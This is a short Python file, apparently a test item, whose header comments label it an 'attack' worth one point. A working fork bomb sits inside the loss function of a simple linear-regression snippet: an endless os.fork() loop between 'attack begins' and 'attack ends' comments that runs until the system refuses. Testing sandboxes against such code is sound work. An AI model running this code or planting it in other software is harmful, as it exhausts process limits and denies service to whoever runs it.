# attack: processes without end
# points: exactly 1
# leaves: loss_fn: RuntimeError: forks: 0, then Operation not permitted
import os


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    # attack begins
    forks = 0
    while True:
        try:
            os.fork()
        except OSError as refused:
            raise RuntimeError(f"forks: {forks}, then {refused.strerror}")
        forks += 1
    # attack ends
    return ((t_p - t_c) ** 2).mean()
